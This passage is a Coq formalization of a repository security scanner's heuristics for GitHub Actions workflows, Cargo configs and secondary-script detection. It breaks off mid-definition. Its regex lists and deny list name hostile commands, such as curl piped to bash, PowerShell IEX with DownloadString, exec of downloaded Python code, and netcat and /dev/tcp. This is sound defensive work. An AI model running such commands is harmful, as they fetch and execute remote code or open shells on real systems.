(** ** GitHub Actions scanner ([heuristics/patterns/github.ts]) *)

Module GitHub.
Import JS Types Regex.

(** [GITHUB_ACTIONS_PATTERNS.INJECTABLE_CONTEXTS] of [shared/constants.ts]. *)
Definition INJECTABLE_CONTEXTS : list jsstring :=
  [ lit "github.event.issue.title";
    lit "github.event.issue.body";
    lit "github.event.pull_request.title";
    lit "github.event.pull_request.body";
    lit "github.event.comment.body";
    lit "github.event.review.body";
    lit "github.event.review_comment.body";
    lit "github.head_ref" ].

Definition appliesTo (filePath : jsstring) : bool :=
  includes filePath (lit ".github/workflows/")
  && (endsWith filePath (lit ".yml") || endsWith filePath (lit ".yaml")).

(** The local variables of [scan] that the [forEach] callback updates. *)
Record ScanState := mkScanState {
  findings : list Finding;
  hasPullRequestTarget : bool;
  hasWorkflowRun : bool;
  hasCheckout : bool;
  checkoutRef : jsstring
}.

Definition push (st : ScanState) (f : Finding) : ScanState :=
  {| findings := findings st ++ [f];
     hasPullRequestTarget := hasPullRequestTarget st;
     hasWorkflowRun := hasWorkflowRun st;
     hasCheckout := hasCheckout st;
     checkoutRef := checkoutRef st |}.

(** The loop of [isInRunBlock], from line [i] upwards, at most [steps] lines. *)
Fixpoint isInRunBlockFrom (lines : list jsstring) (i steps : nat) : bool :=
  match steps with
  | O => false
  | S steps' =>
      let line := trim (nth i lines []) in
      if startsWith line (lit "run:") || str_eqb line (lit "run: |")
         || startsWith line (lit "- run:")
      then true
      else if startsWith line (lit "- uses:") || startsWith line (lit "uses:")
              || startsWith line (lit "- name:") || startsWith line (lit "steps:")
      then false
      else match i with
           | O => false
           | S i' => isInRunBlockFrom lines i' steps'
           end
  end.

(** [for (let i = currentIndex; i >= Math.max(0, currentIndex - 20); i--)] *)
Definition isInRunBlock (lines : list jsstring) (currentIndex : nat) : bool :=
  isInRunBlockFrom lines currentIndex 21.

(** The tail [\$\{\{\s*secrets\.] of the output patterns. *)
Definition secretsRef : Regex :=
  Seqs [Str (lit "${{"); Star Space; Str (lit "secrets.")].

Definition outputPatterns : list Regex :=
  [ Seqs [Str (lit "echo"); Plus Space; Star Any; secretsRef];
    Seqs [Str (lit "printf"); Star Any; secretsRef];
    Seqs [Str (lit "cat"); Star Any; secretsRef];
    Seqs [Chr 62; Opt (Chr 62); Star Space; Str (lit "$GITHUB_OUTPUT"); Star Any; secretsRef] ].

Definition hasSecretsExposure (line : jsstring) : bool :=
  existsb (fun p => test false p line) outputPatterns.

(** [/uses:\s*([^\s]+)/] *)
Definition usesPattern : Regex :=
  Seqs [Str (lit "uses:"); Star Space; Plus NotSpace].

(** Group 1 of a match of [usesPattern]: the match without [uses:] and the
    white space after it (the group cannot start with white space). *)
Definition usesGroup (matched : jsstring) : jsstring :=
  trimStart (skipn 5 matched).

(** [/@[a-f0-9]{40}$/], [/@(main|master)$/], [/@v?\d+(\.\d+)*$/] *)
Definition shaPin : Regex :=
  Seqs [Chr 64; Times 40 (Class false [(97, 102); (48, 57)]%N); Eol].
Definition branchPin : Regex :=
  Seqs [Chr 64; Alt (Str (lit "main")) (Str (lit "master")); Eol].
Definition versionPin : Regex :=
  Seqs [Chr 64; Opt (Chr 118); Plus Digit; Star (Seq (Chr 46) (Plus Digit)); Eol].

Definition hasUnpinnedAction (line : jsstring) : bool :=
  match firstMatch false usesPattern line with
  | None => false
  | Some matched =>
      let actionRef := usesGroup matched in
      if test false shaPin actionRef then false
      else if test false branchPin actionRef then true
      else if test false versionPin actionRef then false
      else if negb (includes actionRef (lit "@")) then true
      else false
  end.

(** [/eval\s+/], [/\$\(.*\$\{\{/] and the same after a backquote. *)
Definition dangerousPatterns : list Regex :=
  [ Seqs [Str (lit "eval"); Plus Space];
    Seqs [Str (lit "$("); Star Any; Str (lit "${{")];
    Seqs [Chr 96; Star Any; Str (lit "${{")] ].

Definition hasDangerousShellPattern (line : jsstring) : bool :=
  existsb (fun p => test false p line) dangerousPatterns.

(** The look-ahead after a checkout line: the first [ref:] line, unless a line
    starting with [-] or [uses:] comes first. *)
Fixpoint lookAheadRef (next : list jsstring) : option jsstring :=
  match next with
  | [] => None
  | l :: rest =>
      let nextLine := trim l in
      if startsWith nextLine (lit "ref:") then Some nextLine
      else if startsWith nextLine (lit "-") || startsWith nextLine (lit "uses:") then None
      else lookAheadRef rest
  end.

(** [for (let i = index + 1; i < Math.min(index + 10, lines.length); i++)] *)
Definition linesAhead (lines : list jsstring) (index : nat) : list jsstring :=
  firstn 9 (skipn (index + 1) lines).

Definition lineFinding (risk : RiskLevel) (path : jsstring) (lineNum : nat)
    (text matched : jsstring) : Finding :=
  {| riskLevel := risk;
     filePath := path;
     description := text;
     lineNumber := Some lineNum;
     matchedContent := Some matched;
     category := GITHUB_ACTIONS |}.

Definition pwnRequestFinding (path : jsstring) : Finding :=
  {| riskLevel := RED;
     filePath := path;
     description := lit "Pwn-request vulnerability: pull_request_target with PR checkout allows arbitrary code execution";
     lineNumber := None;
     matchedContent := Some (lit "pull_request_target + checkout PR ref");
     category := GITHUB_ACTIONS |}.

Definition workflowRunFinding (path : jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := path;
     description := lit "workflow_run event with workflow_run context - review for privilege escalation";
     lineNumber := None;
     matchedContent := None;
     category := GITHUB_ACTIONS |}.

(** The blocks of the callback of [lines.forEach((line, index) => ...)], in
    the order of the source; [trimmedLine] is [line.trim()]. *)
Section Line.
Variables (lines : list jsstring) (path : jsstring) (index : nat)
          (trimmedLine : jsstring).

(** "Check for dangerous event triggers" *)
Definition checkTrigger (st : ScanState) : ScanState :=
  if includes trimmedLine (lit "pull_request_target") then
    push {| findings := findings st;
            hasPullRequestTarget := true;
            hasWorkflowRun := hasWorkflowRun st;
            hasCheckout := hasCheckout st;
            checkoutRef := checkoutRef st |}
         (lineFinding YELLOW path (index + 1)
            (lit "pull_request_target event detected - review for pwn-request vulnerability")
            trimmedLine)
  else st.

Definition checkWorkflowRun (st : ScanState) : ScanState :=
  if includes trimmedLine (lit "workflow_run") then
    {| findings := findings st;
       hasPullRequestTarget := hasPullRequestTarget st;
       hasWorkflowRun := true;
       hasCheckout := hasCheckout st;
       checkoutRef := checkoutRef st |}
  else st.

(** "Check for checkout action", with its look-ahead for [ref:] *)
Definition checkCheckout (st : ScanState) : ScanState :=
  if includes trimmedLine (lit "actions/checkout") then
    {| findings := findings st;
       hasPullRequestTarget := hasPullRequestTarget st;
       hasWorkflowRun := hasWorkflowRun st;
       hasCheckout := true;
       checkoutRef := match lookAheadRef (linesAhead lines index) with
                      | Some nextLine => nextLine
                      | None => checkoutRef st
                      end |}
  else st.

(** "Check for command injection via injectable contexts" *)
Definition checkInjection (st : ScanState) : ScanState :=
  fold_left (fun st context =>
               if includes trimmedLine context then
                 if isInRunBlock lines index then
                   push st (lineFinding RED path (index + 1)
                              (lit "Potential command injection via " ++ context)
                              (substring0 trimmedLine 100))
                 else st
               else st)
            INJECTABLE_CONTEXTS st.

(** "Check for secrets in echo/print statements" *)
Definition checkSecrets (st : ScanState) : ScanState :=
  if hasSecretsExposure trimmedLine then
    push st (lineFinding RED path (index + 1)
               (lit "Potential secrets exposure in output")
               (substring0 trimmedLine 100))
  else st.

(** "Check for unpinned action versions" *)
Definition checkUnpinned (st : ScanState) : ScanState :=
  if includes trimmedLine (lit "uses:") && hasUnpinnedAction trimmedLine then
    push st (lineFinding YELLOW path (index + 1)
               (lit "Unpinned action version - consider pinning to a specific SHA")
               trimmedLine)
  else st.

(** "Check for dangerous shell patterns" *)
Definition checkShell (st : ScanState) : ScanState :=
  if hasDangerousShellPattern trimmedLine then
    push st (lineFinding YELLOW path (index + 1)
               (lit "Dangerous shell pattern detected")
               (substring0 trimmedLine 100))
  else st.

(** "Check for curl piped to shell" *)
Definition checkCurlPipe (st : ScanState) : ScanState :=
  if includes trimmedLine (lit "curl")
     && (includes trimmedLine (lit "| bash") || includes trimmedLine (lit "| sh"))
  then
    push st (lineFinding RED path (index + 1)
               (lit "curl piped to shell - potential code execution from remote source")
               (substring0 trimmedLine 100))
  else st.

End Line.

(** The callback of [lines.forEach((line, index) => ...)]. *)
Definition scanLine (lines : list jsstring) (path : jsstring)
    (st : ScanState) (index : nat) (line : jsstring) : ScanState :=
  let trimmedLine := trim line in
  let st := checkTrigger path index trimmedLine st in
  let st := checkWorkflowRun trimmedLine st in
  let st := checkCheckout lines index trimmedLine st in
  let st := checkInjection lines path index trimmedLine st in
  let st := checkSecrets path index trimmedLine st in
  let st := checkUnpinned path index trimmedLine st in
  let st := checkShell path index trimmedLine st in
  checkCurlPipe path index trimmedLine st.

Definition initialState : ScanState :=
  {| findings := [];
     hasPullRequestTarget := false;
     hasWorkflowRun := false;
     hasCheckout := false;
     checkoutRef := [] |}.

(** [lines.forEach] with its running index. *)
Definition indexed (lines : list jsstring) : list (nat * jsstring) :=
  combine (seq 0 (length lines)) lines.

Definition scanLines (lines : list jsstring) (path : jsstring) : ScanState :=
  fold_left (fun st il => scanLine lines path st (fst il) (snd il))
            (indexed lines) initialState.

(** [GitHubActionsScanner.scan] *)
Definition scan (content path : jsstring) : list Finding :=
  let lines := splitLines content in
  let st := scanLines lines path in
  let findings1 :=
    if hasPullRequestTarget st && hasCheckout st then
      if includes (checkoutRef st) (lit "pull_request")
         || includes (checkoutRef st) (lit "head.ref")
         || includes (checkoutRef st) (lit "head.sha")
      then findings st ++ [pwnRequestFinding path]
      else findings st
    else findings st in
  if hasWorkflowRun st && includes content (lit "github.event.workflow_run")
  then findings1 ++ [workflowRunFinding path]
  else findings1.

Definition scanGitHubActions (content path : jsstring) : list Finding :=
  scan content path.

End GitHub.

(* ================================================================== *)
(** ** Secondary-script scanner ([heuristics/recursiveGuard.ts]) *)

Module RecursiveGuard.
Import JS Types Regex.

Definition dquote : N := 34%N.
Definition squote : N := 39%N.
Definition backquote : N := 96%N.
Definition lparen : Regex := Chr 40.
Definition rparen : Regex := Chr 41.
Definition pipe : Regex := Chr 124.

(** A single or a double quote. *)
Definition anyQuote : Regex := Class false (unitsOf [squote; dquote]).

(** [SECONDARY_SCRIPT_PATTERNS], in the order of [Object.entries]; every
    pattern carries the flags [gi]. In the comments \x22 is the double quote. *)
Definition SECONDARY_SCRIPT_PATTERNS : list (jsstring * list Regex) :=
  [ (lit "shell",
     [ (* /curl\s+.*\|\s*(bash|sh|zsh)/ *)
       Seqs [Str (lit "curl"); Plus Space; Star Any; pipe; Star Space;
             Alts [Str (lit "bash"); Str (lit "sh"); Str (lit "zsh")]];
       (* /wget\s+.*-O\s*-\s*\|\s*(bash|sh)/ *)
       Seqs [Str (lit "wget"); Plus Space; Star Any; Str (lit "-O"); Star Space;
             Chr 45; Star Space; pipe; Star Space;
             Alts [Str (lit "bash"); Str (lit "sh")]];
       (* /\$\(curl\s+[^)]+\)/ *)
       Seqs [Str (lit "$(curl"); Plus Space; Plus (Class true (unitsOf [41%N])); rparen];
       (* /`curl\s+[^`]+`/ *)
       Seqs [Chr backquote; Str (lit "curl"); Plus Space;
             Plus (Class true (unitsOf [backquote])); Chr backquote];
       (* /source\s+<\(curl/ *)
       Seqs [Str (lit "source"); Plus Space; Str (lit "<(curl")];
       (* /eval\s+\x22\$\(curl/ *)
       Seqs [Str (lit "eval"); Plus Space; Chr dquote; Str (lit "$(curl")] ]);
    (lit "powershell",
     [ (* /Invoke-Expression\s*\(\s*\(?\s*New-Object/ *)
       Seqs [Str (lit "Invoke-Expression"); Star Space; lparen; Star Space;
             Opt lparen; Star Space; Str (lit "New-Object")];
       (* /IEX\s*\(\s*\(?\s*New-Object/ *)
       Seqs [Str (lit "IEX"); Star Space; lparen; Star Space;
             Opt lparen; Star Space; Str (lit "New-Object")];
       (* /\[System\.Net\.WebClient\].*DownloadString/ *)
       Seqs [Str (lit "[System.Net.WebClient]"); Star Any; Str (lit "DownloadString")];
       (* /Invoke-WebRequest.*\|\s*Invoke-Expression/ *)
       Seqs [Str (lit "Invoke-WebRequest"); Star Any; pipe; Star Space;
             Str (lit "Invoke-Expression")];
       (* /iwr.*\|\s*iex/ *)
       Seqs [Str (lit "iwr"); Star Any; pipe; Star Space; Str (lit "iex")] ]);
    (lit "node",
     [ (* /eval\s*\(\s*require\s*\(/ *)
       Seqs [Str (lit "eval"); Star Space; lparen; Star Space; Str (lit "require");
             Star Space; lparen];
       (* /new\s+Function\s*\([^)]*require/ *)
       Seqs [Str (lit "new"); Plus Space; Str (lit "Function"); Star Space; lparen;
             Star (Class true (unitsOf [41%N])); Str (lit "require")];
       (* /child_process.*exec.*\$\{/ *)
       Seqs [Str (lit "child_process"); Star Any; Str (lit "exec"); Star Any;
             Str (lit "${")];
       (* /require\s*\(\s*['\x22]child_process['\x22]\s*\)/ *)
       Seqs [Str (lit "require"); Star Space; lparen; Star Space; anyQuote;
             Str (lit "child_process"); anyQuote; Star Space; rparen] ]);
    (lit "python",
     [ (* /exec\s*\(\s*urllib/ *)
       Seqs [Str (lit "exec"); Star Space; lparen; Star Space; Str (lit "urllib")];
       (* /exec\s*\(\s*requests\.get/ *)
       Seqs [Str (lit "exec"); Star Space; lparen; Star Space; Str (lit "requests.get")];
       (* /eval\s*\(\s*base64\.b64decode/ *)
       Seqs [Str (lit "eval"); Star Space; lparen; Star Space; Str (lit "base64.b64decode")];
       (* /__import__\s*\(\s*['\x22]urllib/ *)
       Seqs [Str (lit "__import__"); Star Space; lparen; Star Space; anyQuote;
             Str (lit "urllib")] ]);
    (lit "dynamic",
     [ (* /import\s*\(\s*['\x22`][^'\x22`]*\$\{/ *)
       Seqs [Str (lit "import"); Star Space; lparen; Star Space;
             Class false (unitsOf [squote; dquote; backquote]);
             Star (Class true (unitsOf [squote; dquote; backquote])); Str (lit "${")];
       (* /require\s*\(\s*[^'\x22]/ *)
       Seqs [Str (lit "require"); Star Space; lparen; Star Space;
             Class true (unitsOf [squote; dquote])];
       (* /\bimportlib\.import_module\s*\(/ *)
       Seqs [WordBoundary; Str (lit "importlib.import_module"); Star Space; lparen] ]) ].

(** [/https?:\/\/[^\s\x22'`<>)\]]+/gi] *)
Definition urlPattern : Regex :=
  Seqs [Str (lit "http"); Opt (Chr 115); Str (lit "://");
        Plus (Class true (spaceRanges
                          ++ unitsOf [dquote; squote; backquote; 60; 62; 41; 93]%N))].

(** [[...new Set(a)]]: the first occurrence of each string, in order. *)
Fixpoint uniqueFrom (a seen : list jsstring) : list jsstring :=
  match a with
  | [] => []
  | x :: rest =>
      if arrayIncludes seen x then uniqueFrom rest seen
      else x :: uniqueFrom rest (x :: seen)
  end.

Definition extractUrls (content : jsstring) : list jsstring :=
  uniqueFrom (matchAll true urlPattern content) [].

Definition executionFinding (path category matched : jsstring) : Finding :=
  {| riskLevel := RED;
     filePath := path;
     description := lit "Secondary script execution pattern (" ++ category
                    ++ lit "): downloads and executes remote code";
     lineNumber := None;
     matchedContent := Some (substring0 matched 100);
     category := VSCODE |}.

(** The two nested loops over categories and patterns. *)
Definition executionFindings (content path : jsstring) : list Finding :=
  flat_map (fun entry =>
      let category := fst entry in
      flat_map (fun pattern =>
                  map (executionFinding path category) (matchAll true pattern content))
               (snd entry))
    SECONDARY_SCRIPT_PATTERNS.

Definition isSuspiciousUrl (url : jsstring) : bool :=
  let lowerUrl := toLowerCase url in
  includes lowerUrl (lit ".sh")
  || includes lowerUrl (lit ".ps1")
  || includes lowerUrl (lit ".py")
  || includes lowerUrl (lit ".rb")
  || includes lowerUrl (lit "raw.")
  || includes lowerUrl (lit "pastebin")
  || includes lowerUrl (lit "paste.")
  || includes lowerUrl (lit "hastebin")
  || includes lowerUrl (lit "gist.").

Definition remoteReferenceFinding (path : jsstring) (suspiciousUrls : list jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := path;
     description := lit "References to potentially executable remote content";
     lineNumber := None;
     matchedContent := Some (join (lit ", ") (take 3 suspiciousUrls));
     category := VSCODE |}.

(** The findings before the output is limited. *)
Definition rawFindings (content path : jsstring) : list Finding :=
  let findings := executionFindings content path in
  let urls := extractUrls content in
  let suspiciousUrls := filter isSuspiciousUrl urls in
  if (0 <? length suspiciousUrls) && (length findings =? 0)
  then findings ++ [remoteReferenceFinding path suspiciousUrls]
  else findings.

Definition additionalPatternsFinding (path : jsstring) (n : nat) : Finding :=
  {| riskLevel := YELLOW;
     filePath := path;
     description := natToString n ++ lit " additional secondary script patterns detected";
     lineNumber := None;
     matchedContent := None;
     category := VSCODE |}.

(** The last block of [scanForSecondaryScripts]: "Limit findings". *)
Definition limitFindings (path : jsstring) (findings : list Finding) : list Finding :=
  if 5 <? length findings then
    take 5 findings ++ [additionalPatternsFinding path (length findings - 5)]
  else findings.

Definition scanForSecondaryScripts (content path : jsstring) : list Finding :=
  limitFindings path (rawFindings content path).

(** [quickPatterns], each with the flag [i]. *)
Definition quickPatterns : list Regex :=
  [ Seqs [Str (lit "curl"); Star Any; pipe];                       (* /curl.*\|/ *)
    Seqs [Str (lit "wget"); Star Any; Str (lit "-O"); Star Any; Chr 45]; (* /wget.*-O.*-/ *)
    Str (lit "Invoke-Expression");
    Seqs [Str (lit "IEX"); Star Space; lparen];                    (* /IEX\s*\(/ *)
    Seqs [Str (lit "eval"); Star Space; lparen];                   (* /eval\s*\(/ *)
    Seqs [Str (lit "exec"); Star Space; lparen];                   (* /exec\s*\(/ *)
    Str (lit "child_process");
    Str (lit "__import__") ].

Definition needsDeepInspection (content : jsstring) : bool :=
  existsb (fun p => test true p content) quickPatterns.

End RecursiveGuard.

(* ================================================================== *)
(** ** Cargo scanner ([heuristics/patterns/rust.ts]) *)

Module Rust.
Import JS Types Regex.

Definition dquote : N := 34%N.
Definition squote : N := 39%N.

Definition appliesTo (filePath : jsstring) : bool :=
  endsWith filePath (lit "Cargo.toml")
  || endsWith filePath (lit ".cargo/config.toml")
  || endsWith filePath (lit ".cargo/config").

(** [/=\s*[\x22']?([^\x22'\s]+)[\x22']?/], where \x22 is the double quote. *)
Definition valuePattern : Regex :=
  Seqs [Chr 61; Star Space; Opt (Class false (unitsOf [dquote; squote]));
        Plus (Class true (unitsOf [dquote; squote] ++ spaceRanges));
        Opt (Class false (unitsOf [dquote; squote]))].

(** The longest prefix of [s] whose units satisfy [p]. *)
Fixpoint takeWhile (p : N -> bool) (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s' => if p c then c :: takeWhile p s' else []
  end.

Fixpoint dropWhile (p : N -> bool) (s : jsstring) : jsstring :=
  match s with
  | [] => []
  | c :: s' => if p c then dropWhile p s' else s
  end.

Definition isQuote (c : N) : bool := N.eqb c dquote || N.eqb c squote.

(** Group 1 of a match of [valuePattern]: the match is [=], white space, at
    most one quote, the group, at most one quote; the group holds neither a
    quote nor white space, so it is what follows the [=], the white space
    and the quote, up to the next quote. *)
Definition valueGroup (matched : jsstring) : jsstring :=
  let afterEquals := dropWhile (fun c => inRanges c spaceRanges) (skipn 1 matched) in
  let afterQuote :=
    match afterEquals with
    | c :: rest => if isQuote c then rest else afterEquals
    | [] => []
    end in
  takeWhile (fun c => negb (isQuote c)) afterQuote.

Definition extractValue (line : jsstring) : option jsstring :=
  match firstMatch false valuePattern line with
  | Some matched => Some (valueGroup matched)
  | None => None
  end.

Definition isSuspiciousDependency (line : jsstring) : bool :=
  if includes line (lit "path = " ++ [dquote]) && includes line (lit "..") then true
  else false.

(** [/git\s*=\s*\x22([^\x22]+)\x22/] *)
Definition gitPattern : Regex :=
  Seqs [Str (lit "git"); Star Space; Chr 61; Star Space; Chr dquote;
        Plus (Class true (unitsOf [dquote])); Chr dquote].

(** Group 1 of a match of [gitPattern]: what stands between the first double
    quote of the match and the one that ends it. *)
Definition gitGroup (matched : jsstring) : jsstring :=
  takeWhile (fun c => negb (N.eqb c dquote))
            (skipn 1 (dropWhile (fun c => negb (N.eqb c dquote)) matched)).

Definition trustedHosts : list jsstring :=
  [lit "github.com"; lit "gitlab.com"; lit "bitbucket.org"; lit "rust-lang.github.io"].

Definition hasSuspiciousGitDependency (line : jsstring) : bool :=
  if negb (includes line (lit "git = " ++ [dquote])) then false
  else
    match firstMatch false gitPattern line with
    | Some matched =>
        let url := gitGroup matched in
        negb (existsb (fun host => includes url host) trustedHosts)
    | None => false
    end.

Definition dangerousFlags : list jsstring :=
  [lit "-C link-arg"; lit "-C linker="; lit "codegen-units"; lit "-Z"].

Definition hasDangerousRustflags (line : jsstring) : bool :=
  existsb (fun flag => includes line flag) dangerousFlags.

Definition lineFinding (risk : RiskLevel) (path : jsstring) (lineNum : nat)
    (text matched : jsstring) : Finding :=
  {| riskLevel := risk;
     filePath := path;
     description := text;
     lineNumber := Some lineNum;
     matchedContent := Some matched;
     category := RUST |}.

(** The local variables of [scanCargoToml] that the [forEach] callback
    updates; [inBuildSection] is set and never read. *)
Record TomlState := mkTomlState {
  findings : list Finding;
  inBuildDependencies : bool;
  inBuildSection : bool
}.

Definition push (st : TomlState) (f : Finding) : TomlState :=
  {| findings := findings st ++ [f];
     inBuildDependencies := inBuildDependencies st;
     inBuildSection := inBuildSection st |}.

(** [lines[index - 1]?.trim() === '[build-dependencies]'] *)
Definition previousLineIsHeader (lines : list jsstring) (index : nat) : bool :=
  match index with
  | O => false
  | S previous =>
      match nth_error lines previous with
      | Some line => str_eqb (trim line) (lit "[build-dependencies]")
      | None => false
      end
  end.

(** The blocks of the callback of [lines.forEach((line, index) => ...)] in
    [scanCargoToml], in the order of the source; [trimmedLine] is
    [line.trim()] and [lineNum] is [index + 1]. *)
Section TomlLine.
Variables (lines : list jsstring) (path : jsstring) (index : nat)
          (trimmedLine : jsstring).

(** "Track sections" *)
Definition trackSection (st : TomlState) : TomlState :=
  if startsWith trimmedLine (lit "[") then
    {| findings := findings st;
       inBuildDependencies := includes trimmedLine (lit "[build-dependencies]");
       inBuildSection := Bool.eqb (includes trimmedLine (lit "[package]")) false
                         && includes trimmedLine (lit "build") |}
  else st.

(** "Check for [build-dependencies] section", "Only flag once per section" *)
Definition checkBuildDependencies (st : TomlState) : TomlState :=
  if inBuildDependencies st && negb (length trimmedLine =? 0)
     && negb (startsWith trimmedLine (lit "["))
     && negb (startsWith trimmedLine (lit "#"))
  then
    if previousLineIsHeader lines index then
      push st (lineFinding YELLOW path (index + 1)
                 (lit "Build dependencies detected - build.rs will run during compilation")
                 (lit "[build-dependencies]"))
    else st
  else st.

(** "Check for build script specification" *)
Definition checkBuildScript (st : TomlState) : TomlState :=
  if startsWith trimmedLine (lit "build") && includes trimmedLine (lit "=") then
    match extractValue trimmedLine with
    | Some buildScript =>
        if negb (length buildScript =? 0) && negb (str_eqb buildScript (lit "build.rs"))
        then push st (lineFinding YELLOW path (index + 1)
                        (lit "Custom build script: " ++ buildScript) trimmedLine)
        else st
    | None => st
    end
  else st.

(** "Check for suspicious package names in dependencies" *)
Definition checkSuspiciousDependency (st : TomlState) : TomlState :=
  if isSuspiciousDependency trimmedLine then
    push st (lineFinding YELLOW path (index + 1)
               (lit "Suspicious dependency pattern detected")
               (substring0 trimmedLine 100))
  else st.

(** "Check for git dependencies with suspicious URLs" *)
Definition checkGitDependency (st : TomlState) : TomlState :=
  if hasSuspiciousGitDependency trimmedLine then
    push st (lineFinding YELLOW path (index + 1)
               (lit "Git dependency from non-standard source")
               (substring0 trimmedLine 100))
  else st.

End TomlLine.

Definition cargoTomlLine (lines : list jsstring) (path : jsstring)
    (st : TomlState) (index : nat) (line : jsstring) : TomlState :=
  let trimmedLine := trim line in
  let st := trackSection trimmedLine st in
  let st := checkBuildDependencies lines path index trimmedLine st in
  let st := checkBuildScript path index trimmedLine st in
  let st := checkSuspiciousDependency path index trimmedLine st in
  checkGitDependency path index trimmedLine st.

(** [lines.forEach] with its running index. *)
Definition indexed (lines : list jsstring) : list (nat * jsstring) :=
  combine (seq 0 (length lines)) lines.

Definition procMacroFinding (path : jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := path;
     description := lit "Procedural macro crate - executes code at compile time";
     lineNumber := None;
     matchedContent := Some (lit "proc-macro = true");
     category := RUST |}.

Definition scanCargoToml (content path : jsstring) : list Finding :=
  let lines := splitLines content in
  let st := fold_left (fun st il => cargoTomlLine lines path st (fst il) (snd il))
                      (indexed lines)
                      {| findings := []; inBuildDependencies := false;
                         inBuildSection := false |} in
  if includes content (lit "proc-macro = true")
  then findings st ++ [procMacroFinding path]
  else findings st.

(** The callback of [lines.forEach((line, index) => ...)] in
    [scanCargoConfig]: what one line adds to [findings]. *)
Definition cargoConfigLine (path : jsstring) (index : nat) (line : jsstring)
    : list Finding :=
  let lineNum := index + 1 in
  let trimmedLine := trim line in
  (if includes trimmedLine (lit "rustc-wrapper") || includes trimmedLine (lit "rustc =")
   then [lineFinding RED path lineNum
           (lit "Rust compiler override detected - can execute arbitrary code") trimmedLine]
   else [])
  ++ (if includes trimmedLine (lit "linker") && includes trimmedLine (lit "=")
      then [lineFinding YELLOW path lineNum (lit "Custom linker specified") trimmedLine]
      else [])
  ++ (if includes trimmedLine (lit "runner") && includes trimmedLine (lit "=")
      then [lineFinding YELLOW path lineNum
              (lit "Custom runner specified - may execute arbitrary commands") trimmedLine]
      else [])
  ++ (if includes trimmedLine (lit "rustflags") || includes trimmedLine (lit "RUSTFLAGS")
      then if hasDangerousRustflags trimmedLine
           then [lineFinding YELLOW path lineNum
                   (lit "Potentially dangerous RUSTFLAGS detected") trimmedLine]
           else []
      else [])
  ++ (if includes trimmedLine (lit "[source.")
         && negb (includes trimmedLine (lit "[source.crates-io]"))
      then [lineFinding YELLOW path lineNum
              (lit "Custom registry source detected - potential supply chain risk")
              trimmedLine]
      else []).

Definition targetFinding (path : jsstring) : Finding :=
  {| riskLevel := YELLOW;
     filePath := path;
     description := lit "Target-specific build configuration detected";
     lineNumber := None;
     matchedContent := None;
     category := RUST |}.

Definition scanCargoConfig (content path : jsstring) : list Finding :=
  let lines := splitLines content in
  let findings := flat_map (fun il => cargoConfigLine path (fst il) (snd il)) (indexed lines) in
  if includes content (lit "[target.")
     && (includes content (lit "rustc-wrapper") || includes content (lit "linker"))
  then findings ++ [targetFinding path]
  else findings.

(** [RustScanner.scan] *)
Definition scan (content filePath : jsstring) : list Finding :=
  if endsWith filePath (lit "Cargo.toml") then scanCargoToml content filePath
  else if includes filePath (lit ".cargo/config") then scanCargoConfig content filePath
  else [].

Definition scanRust (content filePath : jsstring) : list Finding :=
  scan content filePath.

End Rust.

(* ================================================================== *)
(** ** Dangerous commands ([NPMScanner.findDangerousCommand], and the same
    method of [VSCodeScanner]) *)
Module Commands.
Import JS Regex.

(** [DANGEROUS_COMMANDS] of [shared/constants.ts]. *)
Definition DANGEROUS_COMMANDS : list jsstring :=
  [ lit "curl"; lit "wget"; lit "bash"; lit "sh"; lit "powershell"; lit "pwsh";
    lit "cmd"; lit "eval"; lit "exec"; lit "nc"; lit "netcat"; lit "ncat";
    lit "/dev/tcp"; lit "python -c"; lit "python3 -c"; lit "node -e"; lit "ruby -e";
    lit "perl -e" ].

(** [new RegExp(`\\b${escaped}\\b`, 'i')], where [escaped] is the command
    with every special character escaped: the command as a literal, between
    two word boundaries. *)
Definition commandPattern (dangerous : jsstring) : Regex :=
  Seqs [WordBoundary; Str dangerous; WordBoundary].

(** The loop returns the first command whose pattern matches. *)
Definition findDangerousCommand (script : jsstring) : option jsstring :=
  let lowerScript := toLowerCase script in
  find (fun dangerous => test true (commandPattern dangerous) lowerScript)
       DANGEROUS_COMMANDS.

End Commands.

(* ================================================================== *)
(** ** File path matcher ([utils/filePathMatcher]) *)

Module FilePathMatcher.
Import JS.

Inductive ScannerType := vscode | npm | python | rust | github.

Definition getScannerType (filePath : jsstring) : option ScannerType :=
  if includes filePath (lit ".vscode/") && endsWith filePath (lit "tasks.json") then Some vscode
  else if endsWith filePath (lit "package.json") then Some npm
  else if endsWith filePath (lit "setup.py") || endsWith filePath (lit "pyproject.toml")
  then Some python
  else if endsWith filePath (lit "Cargo.toml") || includes filePath (lit ".cargo/config")
  then Some rust
  else if includes filePath (lit ".github/workflows/")
          && (endsWith filePath (lit ".yml") || endsWith filePath (lit ".yaml"))
  then Some github
  else None.

(** [CRITICAL_FILES] and [SCAN_TRIGGER_FOLDERS] of [shared/constants.ts], as
    far as this module reads them. *)
Definition VSCODE_TASKS : jsstring := lit ".vscode/tasks.json".
Definition NPM_PACKAGE : jsstring := lit "package.json".
Definition PYTHON_SETUP : jsstring := lit "setup.py".
Definition PYTHON_PYPROJECT : jsstring := lit "pyproject.toml".
Definition RUST_CARGO : jsstring := lit "Cargo.toml".
Definition RUST_CARGO_CONFIG : jsstring := lit ".cargo/config.toml".
Definition RUST_CARGO_CONFIG_ALT : jsstring := lit ".cargo/config".

Definition SCAN_TRIGGER_FOLDERS : list jsstring :=
  [lit ".vscode/"; lit ".cargo/"; lit ".github/workflows/"].

(** [normalizedFolder.slice(0, -1)] is the folder without its last unit. *)
Definition hasFolder (fileTree : list jsstring) (folderPath : jsstring) : bool :=
  let normalizedFolder :=
    if endsWith folderPath (lit "/") then folderPath else folderPath ++ lit "/" in
  existsb (fun file =>
             str_eqb file folderPath
             || startsWith file normalizedFolder
             || str_eqb file (slice normalizedFolder 0 (length normalizedFolder - 1)))
          fileTree.

Definition hasFile (fileTree : list jsstring) (filePath : jsstring) : bool :=
  arrayIncludes fileTree filePath.

(** The filter of [getWorkflowFiles], which [getFilesToScan] repeats. *)
Definition getWorkflowFiles (fileTree : list jsstring) : list jsstring :=
  filter (fun file =>
            startsWith file (lit ".github/workflows/")
            && (endsWith file (lit ".yml") || endsWith file (lit ".yaml")))
         fileTree.

Definition getFilesToScan (fileTree : list jsstring) : list jsstring :=
  let filesToScan := [] in
  let filesToScan :=
    if hasFolder fileTree (lit ".vscode") then
